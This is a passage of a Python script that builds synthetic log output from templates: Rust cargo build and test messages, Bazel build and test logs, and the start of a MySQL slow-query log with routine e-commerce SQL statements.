        "crate": g_crate, "ver": g_crate, "path": g_local, "n": lambda: str(rng.randint(2, 48)),
        "mb": lambda: f"{rng.uniform(0.1, 9.5):.1f}", "t": secs(0.2, 59),
        "locked": lambda: str(rng.randint(40, 420)),
        "src": lambda: rng.choice(["src/lib.rs", "src/main.rs"]),
        "bin": lambda: rng.choice(["ledger", "ledger_core", "ledger_cli", "ledger_server", "integration",
                                   "api", "wal", "e2e"]),
        "hash": lambda: hexs(rng, 16), "test": g_test, "tests_rs": lambda: f"tests/{rng.choice(['integration', 'api', 'wal', 'e2e', 'cli'])}.rs",
        "p": lambda: str(rng.randint(1, 180)), "f": lambda: str(rng.randint(1, 4)),
        "i": lambda: str(rng.choice([0, 0, 0, 1, 2, 3])), "m": lambda: "0",
        "fo": lambda: str(rng.choice([0, 0, 0, 0, 3, 12, 41])), "tt": secs(0.0, 9.0),
        "file": p_rsfile, "line": lambda: str(rng.randint(10, 99)), "col": lambda: str(rng.randint(5, 40)),
        "reason": lambda: rng.choice(["requires network", "slow", "needs database", "flaky on CI",
                                      "requires docker", "not yet implemented"]),
        "item": lambda: rng.choice(["Ledger::new", "parse", "Entry::amount", "Config::from_env",
                                    "codec::Frame", "Store::open", "Query::by_date", "Token::verify"]),
        "dline": lambda: str(rng.randint(8, 400)),
        "l": lambda: rng.choice([str(rng.randint(0, 5000)), f"\"{rng.choice(RS_TESTS)}\"",
                                 f"Some({rng.randint(0, 99)})", "None", "[1, 2, 3]", "Ok(())"]),
        "r": lambda: rng.choice([str(rng.randint(0, 5000)), f"\"{rng.choice(RS_TESTS)}\"",
                                 f"Some({rng.randint(0, 99)})", "None", "[1, 2]", "Err(Timeout)"]),
        "err": lambda: rng.choice(['Os { code: 2, kind: NotFound, message: "No such file or directory" }',
                                   'Os { code: 111, kind: ConnectionRefused, message: "Connection refused" }',
                                   f'Parse(UnexpectedToken {{ line: {rng.randint(1, 90)}, col: {rng.randint(1, 40)} }})',
                                   'Timeout', 'InvalidAmount(-5)', '"missing field `amount`"',
                                   'Error("EOF while parsing a value", line: 1, column: 0)']),
        "expr": lambda: rng.choice(["res.is_ok()", "entries.is_empty()", "bal >= 0",
                                    f"wal.len() == {rng.randint(2, 99)}", "token.is_valid()"]),
        "rerun": lambda: rng.choice(["--lib", "--test integration", "--test api", "--bin ledger"]),
        "var": p_var, "imp": lambda: rng.choice(["std::collections::HashMap", "std::io::Write",
                                                 "super::*", "tokio::time::sleep", "std::fmt",
                                                 "serde::Deserialize", "crate::util::now"]),
        "fn": lambda: rng.choice(["parse_header", "old_checksum", "debug_dump", "spawn_reaper",
                                  "legacy_encode", "with_capacity_hint", "flush_all"]),
        "nw": lambda: str(rng.randint(2, 14)), "nsug": lambda: str(rng.randint(1, 6)),
        "ecode": lambda: rng.choice(["E0308", "E0425"]),
    }

    specs = {
        "compiling": ("-", "   Compiling {crate} v{ver}"),
        "compiling_local": ("-", "   Compiling {crate} v{ver} ({path})"),
        "checking": ("-", "    Checking {crate} v{ver}"),
        "downloaded": ("-", "  Downloaded {crate} v{ver}"),
        "downloaded_sum": ("-", "  Downloaded {n} crates ({mb} MB) in {t}s"),
        "updating": ("-", "    Updating crates.io index"),
        "locking": ("-", "     Locking {locked} packages to latest compatible versions"),
        "blocking": ("-", "    Blocking waiting for file lock on package cache"),
        "fin_dev": ("-", "    Finished `dev` profile [unoptimized + debuginfo] target(s) in {t}s"),
        "fin_test": ("-", "    Finished `test` profile [unoptimized + debuginfo] target(s) in {t}s"),
        "fin_rel": ("-", "    Finished `release` profile [optimized] target(s) in {t}s"),
        "run_unit": ("-", "     Running unittests {src} (target/debug/deps/{bin}-{hash})"),
        "run_it": ("-", "     Running {tests_rs} (target/debug/deps/{bin}-{hash})"),
        "doctests": ("-", "   Doc-tests {crate}"),
        "running_n": ("-", "running {n} tests"),
        "running_1": ("-", "running 1 test"),
        "t_ok": ("-", "test {test} ... ok"),
        "t_failed": ("ERROR", "test {test} ... FAILED"),
        "t_ignored": ("-", "test {test} ... ignored"),
        "t_ignored_r": ("-", "test {test} ... ignored, {reason}"),
        "t_doc": ("-", "test {file} - {item} (line {dline}) ... ok"),
        "res_ok": ("-", "test result: ok. {p} passed; 0 failed; {i} ignored; {m} measured; {fo} filtered out; finished in {tt}s"),
        "res_failed": ("ERROR", "test result: FAILED. {p} passed; {f} failed; {i} ignored; {m} measured; {fo} filtered out; finished in {tt}s"),
        "failures": ("-", "failures:"),
        "stdout_hdr": ("-", "---- {test} stdout ----"),
        "panicked": ("ERROR", "thread '{test}' panicked at {file}:{line}:{col}:"),
        "assert_eq": ("-", "assertion `left == right` failed"),
        "left": ("-", "  left: {l}"),
        "right": ("-", " right: {r}"),
        "unwrap_err": ("-", "called `Result::unwrap()` on an `Err` value: {err}"),
        "unwrap_none": ("-", "called `Option::unwrap()` on a `None` value"),
        "assert_failed": ("-", "assertion failed: {expr}"),
        "backtrace": ("INFO", "note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace"),
        "fail_name": ("-", "    {test}"),
        "test_failed": ("ERROR", "error: test failed, to rerun pass `{rerun}`"),
        "w_unused_var": ("WARN", "warning: unused variable: `{var}`"),
        "w_unused_imp": ("WARN", "warning: unused import: `{imp}`"),
        "w_dead": ("WARN", "warning: function `{fn}` is never used"),
        "arrow": ("-", "  --> {file}:{line}:{col}"),
        "gutter": ("-", "   |"),
        "code": ("-", "{line} | {code}"),
        "caret_help": ("-", "   | {caret} help: if this is intentional, prefix it with an underscore: `_{var}`"),
        "caret": ("-", "   | {caret}"),
        "n_unused_var": ("-", "   = note: `#[warn(unused_variables)]` on by default"),
        "n_unused_imp": ("-", "   = note: `#[warn(unused_imports)]` on by default"),
        "n_dead": ("-", "   = note: `#[warn(dead_code)]` on by default"),
        "w_gen": ("WARN", "warning: `{crate}` (lib) generated {nw} warnings"),
        "w_gen_bin1": ("WARN", "warning: `{crate}` (bin \"{bin}\") generated 1 warning"),
        "w_gen_fix": ("WARN", "warning: `{crate}` (lib) generated {nw} warnings (run `cargo fix --lib -p {crate}` to apply {nsug} suggestions)"),
        "e0308": ("ERROR", "error[E0308]: mismatched types"),
        "e0425": ("ERROR", "error[E0425]: cannot find value `{var}` in this scope"),
        "caret_types": ("-", "   | {caret} expected `{t1}`, found `{t2}`"),
        "caret_notfound": ("-", "   | {caret} not found in this scope"),
        "explain": ("-", "For more information about this error, try `rustc --explain {ecode}`."),
        "could_not": ("ERROR", "error: could not compile `{crate}` (bin \"{bin}\") due to {n} previous errors"),
        "could_not1": ("ERROR", "error: could not compile `{crate}` (lib) due to 1 previous error"),
    }

    def snippet(code, word, cname, extra=None):
        i = code.index(word)
        ov = {"caret": caret(i + 4, len(word), "^", "^")}
        ov.update(extra or {})
        return [("arrow", {"col": str(i + 5)}), ("gutter", {}), ("code", {"code": "    " + code}), (cname, ov)]

    def k_unused_var():
        v = p_var()
        return [("w_unused_var", {"var": v})] + snippet(f"let {v} = {rng.choice(['self.read()?', 'Vec::new()', '0', 'cfg.clone()', 'rx.recv().await'])};", v, "caret_help") + \
            [("n_unused_var", {})]

    def k_unused_imp():
        imp = gens["imp"]()
        return [("w_unused_imp", {"imp": imp})] + snippet(f"use {imp};", imp, "caret") + [("n_unused_imp", {})]

    def k_dead():
        f = gens["fn"]()
        return [("w_dead", {"fn": f})] + snippet(f"fn {f}(&self) -> usize {{", f, "caret") + [("n_dead", {})]

    def k_gen():
        name = "w_gen_bin1" if ctx.maybe("w_gen_bin1", 0.3) else "w_gen"
        return [(name, g_local())]

    def k_local():
        return [(rng.choice(["compiling_local", "compiling_local", "checking"]), g_local())]

    def k_gen_fix():
        return [("w_gen_fix", g_local())]

    def k_e0308():
        t1, t2 = rng.choice([("u64", "i64"), ("String", "&str"), ("usize", "u32"), ("Option<u64>", "u64"),
                             ("Result<(), Error>", "()"), ("&[u8]", "Vec<u8>")])
        v = p_var()
        rows = [("e0308", {})] + snippet(f"let n: {t1} = {v};", v, "caret_types", {"t1": t1, "t2": t2})
        return rows + [("explain", {"ecode": "E0308"}), ("could_not1", g_local())]

    def k_e0425():
        v = p_var() + rng.choice(["_count", "s", "_id", ""])
        rows = [("e0425", {"var": v})] + snippet(f"total += {v};", v, "caret_notfound")
        return rows + [("explain", {"ecode": "E0425"}), ("could_not", dict(g_local(), n=str(rng.randint(2, 9))))]

    def tests_block(n_lines, failed=0):
        n = max(n_lines + rng.randint(0, 60), 2)
        rows = [("running_n", {"n": str(n)})]
        names = []
        force = ctx.need("t_ignored_r")
        for _ in range(n_lines):
            r = rng.random()
            if r < 0.08:
                rows.append(("t_ignored", {"test": g_test()}))
            elif r < 0.11 or force:
                force = False
                rows.append(("t_ignored_r", {"test": g_test()}))
            else:
                rows.append(("t_ok", {"test": g_test()}))
        for _ in range(failed):
            t = g_test()
            names.append(t)
            rows.insert(rng.randint(1, len(rows)), ("t_failed", {"test": t}))
        return rows, names

    def k_tests():
        hdr = rng.choice([("run_unit", {}), ("run_it", {})])
        rows, _ = tests_block(rng.randint(1, 6))
        return [hdr] + rows + [("res_ok", {})]

    def k_single_test():
        return [("run_it", {}), ("running_1", {}), ("t_ok", {"test": g_test()}), ("res_ok", {"p": "1", "i": "0"})]

    def k_doctests():
        c = g_local()
        rows = [("doctests", {"crate": c["crate"].replace("-", "_")}), ("running_n", {"n": str(rng.randint(2, 12))})]
        rows += [("t_doc", {"file": p_rsfile(), "item": gens["item"](), "dline": gens["dline"]()}) for _ in range(rng.randint(1, 4))]
        return rows + [("res_ok", {})]

    def k_fail():
        rows, names = tests_block(rng.randint(1, 4), failed=rng.choice([1, 1, 2]))
        rows = [("run_unit", {})] + rows + [("failures", {})]
        for t in names:
            rows += [("stdout_hdr", {"test": t}), ("panicked", {"test": t, "line": str(rng.randint(10, 900)),
                                                                  "file": p_rsfile(), "col": str(rng.randint(5, 60))})]
            kind = rng.choice(["eq", "eq", "err", "none", "assert"])
            for nm in ("unwrap_none", "assert_failed", "unwrap_err"):
                if ctx.need(nm):
                    kind = {"unwrap_none": "none", "assert_failed": "assert", "unwrap_err": "err"}[nm]
            if kind == "eq":
                rows += [("assert_eq", {}), ("left", {"l": gens["l"]()}), ("right", {"r": gens["r"]()})]
            elif kind == "err":
                rows.append(("unwrap_err", {"err": gens["err"]()}))
            elif kind == "none":
                rows.append(("unwrap_none", {}))
            else:
                rows.append(("assert_failed", {}))
            if t == names[0]:
                rows.append(("backtrace", {}))
        rows.append(("failures", {}))
        rows += [("fail_name", {"test": t}) for t in names]
        return rows + [("res_failed", {"f": str(len(names))}), ("test_failed", {})]

    kinds = ["compiling", k_tests, "fin_dev", k_unused_var, k_local, "fin_test", k_doctests,
             "checking", "downloaded", k_unused_imp, "updating", k_gen, k_single_test, "downloaded_sum",
             "fin_rel", k_dead, "locking", k_fail, k_gen_fix, "blocking", k_e0308, k_e0425]
    gens["code"] = lambda: "    let x = 1;"
    gens["caret"] = lambda: "^"
    return run(ctx, specs, kinds, gens, s=1.0)


# ------------------------------------------------------------------------------------------
# 3. bazel_build
# ------------------------------------------------------------------------------------------

BZ_PKGS = ["src/core", "src/net", "src/storage", "src/storage/rocks", "src/api", "src/api/v2",
           "src/util", "src/auth", "tools/cli", "tools/codegen", "lib/json", "lib/http",
           "services/ingest", "services/query", "proto", "third_party/zlib", "tests/e2e"]
BZ_NAMES = ["core", "net", "storage", "rpc", "server", "client", "util", "auth", "cli", "codegen",
            "json", "http", "ingest", "query", "metrics", "config", "cache", "codec", "planner"]


def make_bazel_build(rng: random.Random) -> list[dict[str, str]]:
    ctx = Ctx(rng, gap=1.5)
    root = rng.choice(["/home/ci/proj", "/home/runner/work/monorepo/monorepo", "/workspace/src",
                       "/var/lib/buildkite-agent/builds/ci-1/org/monorepo"])
    user = rng.choice(["ci", "runner", "buildkite-agent", "jenkins"])
    outbase = f"/home/{user}/.cache/bazel/_bazel_{user}/{hexs(rng, 32)}"
    p_pkg, p_name = Pool(rng, BZ_PKGS, 0.8), Pool(rng, BZ_NAMES, 0.8)
    p_strat = Pool(rng, ["linux-sandbox"] * 6 + ["remote", "processwrapper-sandbox", "worker",
                                                 "local", "disk-cache, linux-sandbox"], 1.4)
    p_file = Pool(rng, [f"{p}/{n}{sfx}" for p in BZ_PKGS for n in rng.sample(BZ_NAMES, 5)
                        for sfx in (rng.choice([".cc", ".cc", ".cpp", "_test.cc"]),)], 0.7)

    def g_target():
        pk = p_pkg()
        return f"//{pk}:{rng.choice([pk.rsplit('/', 1)[-1], p_name(), p_name() + '_lib'])}"

    def g_test():
        pk = p_pkg()
        return f"//{pk}:{p_name()}_{rng.choice(['test', 'test', 'integration_test', 'unittest'])}"

    def testlog(t):
        pk, nm = t[2:].split(":")
        return f"{outbase}/execroot/_main/bazel-out/k8-fastbuild/testlogs/{pk}/{nm}/test.log"

    def counter():
        a = ctx.st.get("a", 0) + rng.randint(1, 40)
        b = ctx.st.setdefault("b", rng.randint(800, 9000))
        if a >= b:
            a = b - rng.randint(0, 3)
        ctx.st["a"] = a
        return {"a": f"{a:,}", "b": f"{b:,}"}

    opts = ["--isatty=0 --terminal_columns=80", "--isatty=1 --terminal_columns=212",
            "--remote_cache=grpcs://cache.internal:443 --remote_timeout=60",
            "--disk_cache=~/.cache/bazel-disk --jobs=16", "--config=ci --announce_rc",
            "--output_user_root=/mnt/bazel --host_jvm_args=-Xmx4g",
            "--copt=-Wall --host_copt=-Wall --cxxopt=-std=c++17 --host_cxxopt=-std=c++17",
            "--test_output=errors --test_summary=terse", "--incompatible_strict_action_env"]
    gens = {
        "uuid": lambda: uuid4(rng), "rc": lambda: rng.choice([f"{root}/.bazelrc", f"/home/{user}/.bazelrc",
                                                              "/etc/bazel.bazelrc", f"{root}/ci/ci.bazelrc"]),
        "opts": lambda: rng.choice(opts), "cmd": lambda: rng.choice(["common", "build", "build", "test"]),
        "url": lambda: f"https://app.buildbuddy.io/invocation/{uuid4(rng)}",
        "pk": lambda: str(rng.randint(0, 420)), "nt": lambda: str(rng.randint(2, 1400)),
        "tc": lambda: f"{rng.randint(0, 24000):,}", "ntt": lambda: str(rng.randint(1, 240)),
        "target": g_target, "opt": lambda: rng.choice(["--test_env", "--copt", "--define", "--compilation_mode",
                                                       "--platforms", "--action_env"]),
        "a": counter, "b": counter, "src": p_file, "t": lambda: str(rng.choice([0, 0, 1, 1, 2, 3, 5, 8, 14, 31, 62])),
        "strat": p_strat, "n": lambda: str(rng.randint(2, 64)), "r": lambda: str(rng.randint(1, 16)),
        "out": lambda: f"{p_pkg()}/{p_name()}{rng.choice(['', '.so', '_test', '_bin'])}",
        "file": p_file, "line": lambda: str(rng.randint(10, 900)), "col": lambda: str(rng.randint(1, 60)),
        "build": lambda: f"{root}/{p_pkg()}/BUILD", "bl": lambda: str(rng.randint(1, 180)),
        "bc": lambda: str(rng.randint(1, 20)), "pkg": p_pkg, "name": p_name,
        "build2": lambda: f"{root}/{p_pkg()}/BUILD.bazel",
        "dep_msg": lambda: rng.choice(["use //lib/json:json_v2 instead", "will be removed in Q3",
                                       "migrate to //src/net:rpc", "No longer maintained."]),
        "dl_url": lambda: rng.choice(["https://mirror.bazel.build/github.com/madler/zlib/archive/v1.3.tar.gz",
                                      "https://mirror.bazel.build/github.com/google/googletest/archive/v1.14.0.tar.gz",
                                      "https://mirror.bazel.build/github.com/protocolbuffers/protobuf/releases/download/v25.1/protobuf-25.1.tar.gz"]),
        "dfile": lambda: rng.choice([f"{root}/tools/build_defs/cc.bzl", f"{root}/third_party/repos.bzl",
                                     f"{outbase}/external/rules_python/python/private/toolchains_repo.bzl"]),
        "dmsg": lambda: rng.choice(["Rule 'com_google_absl' indicated that a canonical reproducible form can be obtained by modifying arguments sha256 = \"" + hexs(rng, 64) + "\"",
                                    f"using python toolchain {rng.choice(['3.11', '3.12'])}",
                                    f"cc_library {g_target()} has no srcs"]),
        "ccmd": lambda: f"/usr/bin/gcc -U_FORTIFY_SOURCE -fstack-protector -Wall -Wunused-but-set-parameter -Wno-free-nonheap-object -fno-omit-frame-pointer -g0 -O2 '-std=c++17' -MD -MF bazel-out/k8-opt/bin/{p_pkg()}/_objs/{p_name()}/{p_name()}.pic.d -c {p_file()}",
        "test": g_test, "tt": lambda: f"{rng.lognormvariate(0.5, 1.2):.1f}",
        "wmsg": lambda: rng.choice(["unused variable 'status'", "comparison of integer expressions of different signedness: 'int' and 'size_t' {aka 'long unsigned int'}",
                                    "'void* memset(void*, int, size_t)' clearing an object of non-trivial type", "unused parameter 'ctx'"]),
        "wopt": lambda: rng.choice(["-Wunused-variable", "-Wsign-compare", "-Wclass-memaccess", "-Wunused-parameter"]),
        "case": lambda: f"{rng.choice(['ParserTest', 'CacheTest', 'RpcClientTest', 'PlannerTest', 'CodecTest'])}.{rng.choice(['HandlesEmpty', 'RoundTrip', 'Timeout', 'LargeBatch', 'Concurrent', 'InvalidInput'])}",
        "ms": lambda: str(rng.randint(0, 4000)), "gline": lambda: str(rng.randint(10, 700)),
        "elapsed": lambda: f"{rng.uniform(3, 1900):.3f}", "crit": lambda: f"{rng.uniform(1, 600):.2f}",
        "np": lambda: f"{rng.randint(1, 9000):,}", "ni": lambda: f"{rng.randint(1, 900):,}",
        "ns": lambda: f"{rng.randint(0, 5000):,}", "nh": lambda: f"{rng.randint(0, 5000):,}",
        "acts": lambda: f"{rng.randint(1, 12000):,}", "path": lambda: f"bazel-bin/{p_pkg()}/{p_name()}",
        "ex": lambda: str(rng.randint(1, 60)), "tot": lambda: str(rng.randint(60, 240)),
        "p": lambda: str(rng.randint(1, 240)), "nf": lambda: str(rng.randint(2, 6)),
    }

    specs = {
        "inv": ("INFO", "INFO: Invocation ID: {uuid}"),
        "start": ("-", "Starting local Bazel server and connecting to it..."),
        "rc_startup": ("INFO", "INFO: Reading 'startup' options from {rc}: {opts}"),
        "opts_client": ("INFO", "INFO: Options provided by the client:"),
        "inherited": ("-", "  Inherited '{cmd}' options: {opts}"),
        "rc_opts": ("INFO", "INFO: Reading rc options for '{cmd}' from {rc}:"),
        "stream": ("INFO", "INFO: Streaming build results to: {url}"),
        "loading": ("-", "Loading: {pk} packages loaded"),
        "analyzing": ("-", "Analyzing: {nt} targets ({pk} packages loaded, {tc} targets configured)"),
        "analyzed": ("INFO", "INFO: Analyzed {nt} targets ({pk} packages loaded, {tc} targets configured)."),
        "analyzed1": ("INFO", "INFO: Analyzed target {target} ({pk} packages loaded, {tc} targets configured)."),
        "found": ("INFO", "INFO: Found {nt} targets..."),
        "found_tests": ("INFO", "INFO: Found {nt} targets and {ntt} test targets..."),
        "discard": ("WARN", "WARNING: Build option {opt} has changed, discarding analysis cache (this can be expensive, see https://bazel.build/advanced/performance/iteration-speed)."),
        "p_compile": ("-", "[{a} / {b}] Compiling {src}; {t}s {strat}"),
        "p_compile_n": ("-", "[{a} / {b}] Compiling {src}; {t}s {strat} ... ({n} actions, {r} running)"),
        "p_link": ("-", "[{a} / {b}] Linking {out}; {t}s {strat}"),
        "p_test": ("-", "[{a} / {b}] Testing {test}; {t}s {strat}"),
        "p_genrule": ("-", "[{a} / {b}] Executing genrule {target}; {t}s {strat}"),
        "p_running": ("-", "[{a} / {b}] {n} actions running"),
        "p_checking": ("-", "[{a} / {b}] checking cached actions"),
        "p_proto": ("-", "[{a} / {b}] Generating Descriptor Set proto_library {target}; {t}s {strat}"),
        "from_comp": ("INFO", "INFO: From Compiling {src}:"),
        "gcc_warn": ("WARN", "{file}:{line}:{col}: warning: {wmsg} [{wopt}]"),
        "fail": ("ERROR", "FAIL: {test} (see {log})"),
        "test_out": ("-", "==================== Test output for {test}:"),
        "eq_line": ("-", "================================================================================"),
        "g_run": ("-", "[ RUN      ] {case}"),
        "g_failure": ("ERROR", "{file}:{gline}: Failure"),
        "g_failed": ("ERROR", "[  FAILED  ] {case} ({ms} ms)"),
        "e_compile": ("ERROR", "ERROR: {build}:{bl}:{bc}: Compiling {src} failed: (Exit 1): gcc failed: error executing CppCompile command (from target {target}) {ccmd}"),
        "e_nopkg": ("ERROR", "ERROR: {build}:{bl}:{bc}: no such package '{pkg}': BUILD file not found in any of the following directories. Add a BUILD file to a directory to mark it as a package."),
        "e_notarget": ("ERROR", "ERROR: {build}:{bl}:{bc}: no such target '{target}': target '{name}' not declared in package '{pkg}' defined by {build2}"),
        "e_analysis": ("ERROR", "ERROR: Analysis of target '{target}' failed; build aborted: Analysis failed"),
        "e_incomplete": ("ERROR", "ERROR: Build did NOT complete successfully"),
        "w_deprecated": ("WARN", "WARNING: {build}:{bl}:{bc}: target '{target}' is deprecated: {dep_msg}"),
        "w_download": ("WARN", "WARNING: Download from {dl_url} failed: class java.io.FileNotFoundException GET returned 404 Not Found"),
        "debug": ("DEBUG", "DEBUG: {dfile}:{bl}:{bc}: {dmsg}"),
        "uptodate": ("-", "Target {target} up-to-date:"),
        "path_line": ("-", "  {path}"),
        "s_passed": ("-", "{test} PASSED in {tt}s"),
        "s_cached": ("-", "{test} (cached) PASSED in {tt}s"),
        "s_flaky": ("WARN", "{test} FLAKY, failed in 1 out of 2 in {tt}s"),
        "s_failed": ("ERROR", "{test} FAILED in {tt}s"),
        "s_nostatus": ("WARN", "{test} NO STATUS"),
        "s_timeout": ("ERROR", "{test} TIMEOUT in {tt}s"),
        "s_ftb": ("ERROR", "{test} FAILED TO BUILD"),
        "executed_fail": ("-", "Executed {ex} out of {tot} tests: {p} tests pass and 1 fails locally."),
        "executed_pass": ("-", "Executed {ex} out of {tot} tests: {tot} tests pass."),
        "size_warn": ("-", "There were tests whose specified size is too big. Use the --test_verbose_timeout_warnings command line option to see which ones these are."),
        "elapsed": ("INFO", "INFO: Elapsed time: {elapsed}s, Critical Path: {crit}s"),
        "procs": ("INFO", "INFO: {np} processes: {ni} internal, {ns} linux-sandbox."),
        "procs_remote": ("INFO", "INFO: {np} processes: {nh} remote cache hit, {ni} internal, {ns} remote."),
        "done_ok": ("INFO", "INFO: Build completed successfully, {acts} total actions"),
        "done_fail": ("ERROR", "INFO: Build completed, {nf} tests FAILED, {acts} total actions"),
    }

    def pad(t):
        return t.ljust(rng.choice([60, 68, 72]) - 1)

    def k_invocation():
        ctx.st.pop("a", None)
        ctx.st.pop("b", None)
        rows = []
        if ctx.maybe("start", 0.15):
            rows.append(("start", {}))
        rows.append(("inv", {}))
        if ctx.maybe("rc_startup", 0.4):
            rows += [("rc_startup", {"opts": gens["opts"]()}), ("opts_client", {}),
                     ("inherited", {"cmd": "common", "opts": gens["opts"]()}),
                     ("rc_opts", {"cmd": "build"}), ("inherited", {"cmd": "build", "opts": gens["opts"]()})]
        if ctx.maybe("stream", 0.3):
            rows.append(("stream", {}))
        if ctx.maybe("discard", 0.1):
            rows.append(("discard", {}))
        rows += [("loading", {"pk": "0"}), ("analyzing", {})]
        rows.append(("analyzed1" if ctx.maybe("analyzed1", 0.2) else "analyzed", {}))
        rows.append(("found_tests" if rng.random() < 0.6 else "found", {}))
        return rows

    def k_progress():
        nm = rng.choices(["p_compile", "p_compile_n", "p_link", "p_test", "p_genrule", "p_running",
                          "p_checking", "p_proto"], [30, 12, 6, 8, 3, 4, 1, 2])[0]
        if ctx.need("p_checking"):
            nm = "p_checking"
        return [(nm, counter())]

    def k_summary():
        rows = []
        fails = 0
        for _ in range(rng.randint(2, 7)):
            t = g_test()
            nm = rng.choices(["s_passed", "s_cached", "s_flaky", "s_failed", "s_nostatus", "s_timeout", "s_ftb"],
                             [50, 30, 3, 4, 1, 1, 1])[0]
            for x in ("s_flaky", "s_failed", "s_nostatus", "s_timeout", "s_ftb"):
                if ctx.need(x) and not any(r[0] == x for r in rows):
                    nm = x
                    break
            rows.append((nm, {"test": pad(t), "tt": gens["tt"]()}))
            if nm in ("s_failed", "s_flaky", "s_timeout"):
                fails += nm != "s_flaky"
                rows.append(("path_line", {"path": testlog(t)}))
        ex, tot = rng.randint(1, 40), rng.randint(40, 300)
        if fails:
            rows.append(("executed_fail", {"ex": str(ex), "tot": str(tot), "p": str(tot - 1)}))
        else:
            rows.append(("executed_pass", {"ex": str(ex), "tot": str(tot)}))
        if ctx.maybe("size_warn", 0.2):
            rows.append(("size_warn", {}))
        return rows

    def k_finish():
        rows = [("elapsed", {}), ("procs_remote" if rng.random() < 0.3 else "procs", {})]
        if rng.random() < 0.85 or ctx.need("uptodate"):
            if rng.random() < 0.3 or ctx.need("uptodate"):
                rows += [("uptodate", {}), ("path_line", {})]
            return rows + [("done_ok", {})]
        return rows + [("done_fail", {}), ("e_incomplete", {})]

    def k_from():
        s = p_file()
        return [("from_comp", {"src": s}), ("gcc_warn", {"file": s})]

    def k_fail():
        t = g_test()
        rows = [("fail", {"test": t, "log": testlog(t)}), ("test_out", {"test": t})]
        for _ in range(rng.randint(1, 3)):
            c = gens["case"]()
            rows += [("g_run", {"case": c}), ("g_failure", {"gline": gens["gline"]()}), ("g_failed", {"case": c, "ms": gens["ms"]()})]
        return rows + [("eq_line", {})]

    def k_compile_err():
        s = p_file()
        return [("e_compile", {"src": s}), ("gcc_warn", {"file": s})]

    def k_analysis():
        t = g_target()
        return [(rng.choice(["e_nopkg", "e_notarget"]) if not ctx.need("e_notarget") else "e_notarget", {}),
                ("e_analysis", {"target": t}), ("e_incomplete", {})]

    kinds = [k_progress, k_progress, k_summary, k_invocation, k_finish, k_from, "debug", "w_deprecated",
             k_fail, k_compile_err, k_analysis, "w_download"]
    return run(ctx, specs, kinds, gens, s=1.2)


# ------------------------------------------------------------------------------------------
# 4. mysql_slow_log
# ------------------------------------------------------------------------------------------

def make_mysql_slow_log(rng: random.Random) -> list[dict[str, str]]:
    ctx = Ctx(rng, gap=4.0)
    p_user = Pool(rng, ["app", "app", "shop_rw", "report", "etl", "root", "grafana", "debezium",
                        "billing", "api_ro", "cron", "analytics"], 1.1)
    hosts = [f"{r}{i}" for r in ("web", "api", "worker", "cron", "etl") for i in range(1, 7)]
    p_host = Pool(rng, [(h, f"10.0.{rng.randint(0, 3)}.{rng.randint(2, 250)}") for h in hosts], 0.9)
    p_ip = ipool(rng, 40, priv_ip)
    p_db = Pool(rng, ["shop", "shop", "billing", "inventory", "crm", "analytics", "auth", "wp_site"])
    tables = ["orders", "order_items", "customers", "products", "inventory", "payments", "sessions",
              "carts", "cart_items", "audit_log", "invoices", "shipments", "users", "coupons",
              "product_reviews", "wp_options", "wp_postmeta", "events"]
    p_tab = Pool(rng, tables, 0.8)
    cols = ["id", "customer_id", "order_id", "status", "created_at", "updated_at", "email",
            "sku", "price", "qty", "total", "user_id", "session_id", "expires_at", "country"]
    p_col = Pool(rng, cols)

    def num():
        return str(rng.choice([rng.randint(1, 99), rng.randint(100, 99999), rng.randint(100000, 9999999)]))

    def day():
        return f"'2026-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}'"

    def cond():
        c = p_col()
        return rng.choice([f"{c} = {num()}", f"{c} IN ({', '.join(num() for _ in range(rng.randint(2, 6)))})",
                           f"created_at >= {day()}", f"status = '{rng.choice(['pending', 'paid', 'shipped', 'cancelled'])}'",
                           f"email LIKE '%{rng.choice(FIRST)}%'", f"{c} IS NULL", f"expires_at < NOW()"])

    def sel_tail():
        t = p_tab()
        return rng.choice([
            f"* FROM {t} WHERE {cond()} ORDER BY created_at DESC LIMIT {rng.choice([10, 20, 50, 100])}",
            f"COUNT(*) FROM {t} WHERE {cond()}",
            f"o.id, o.total, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE {cond()} AND o.status = 'paid'",
            f"{p_col()}, SUM(total) AS revenue FROM {t} WHERE created_at BETWEEN {day()} AND {day()} GROUP BY {p_col()}",
            f"SQL_NO_CACHE * FROM {t} WHERE {cond()} FOR UPDATE",
            f"DISTINCT p.sku FROM products p LEFT JOIN inventory i ON i.sku = p.sku WHERE i.qty < {rng.randint(1, 50)}",
            f"option_name, option_value FROM wp_options WHERE autoload = 'yes'"])

    def upd_tail():
        t = p_tab()
        return rng.choice([f"{t} SET status = '{rng.choice(['paid', 'shipped', 'expired'])}', updated_at = NOW() WHERE id = {num()}",
                           f"{t} SET qty = qty - {rng.randint(1, 5)} WHERE sku = 'SKU-{rng.randint(10000, 99999)}'",
                           f"sessions SET expires_at = DATE_ADD(NOW(), INTERVAL 30 MINUTE) WHERE session_id = '{hexs(rng, 32)}'",
                           f"{t} SET {p_col()} = NULL WHERE {cond()}"])

    def ins_tail():
        t = p_tab()
        return rng.choice([f"INTO {t} ({p_col()}, {p_col()}, created_at) VALUES ({num()}, {num()}, NOW())",
                           f"INTO audit_log (user_id, action, payload) VALUES ({num()}, '{rng.choice(['login', 'checkout', 'refund'])}', '{{\"ip\":\"{p_ip()}\"}}')",
                           f"INTO {t} SELECT * FROM {t}_staging WHERE batch_id = {num()}",
                           f"IGNORE INTO events (id, kind, ts) VALUES ({num()}, 'view', {rng.randint(1700000000, 1800000000)})"])

    def del_tail():
        return rng.choice([f"FROM sessions WHERE expires_at < NOW() LIMIT {rng.choice([1000, 5000, 10000])}",
                           f"FROM {p_tab()} WHERE {cond()}",
                           f"FROM cart_items WHERE cart_id IN (SELECT id FROM carts WHERE updated_at < {day()})"])

    def qtimes():
        qt = rng.lognormvariate(0.3, 1.0) + 0.5
        sent = rng.choice([0, 1, rng.randint(1, 50), rng.randint(50, 5000)])
        return {"qt": f"{qt:.6f}", "lt": f"{rng.uniform(0.00002, 0.002) if rng.random() < 0.95 else rng.uniform(0.1, 3):.6f}",
                "rs": str(sent), "re": str(rng.choice([sent, rng.randint(1000, 9999999)])), "_qt": qt}

    gens = {
        "time": lambda: ctx.t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), "id": lambda: str(rng.randint(10000, 999999)),
        "ts": lambda: str(int(ctx.t.replace(tzinfo=timezone.utc).timestamp())),
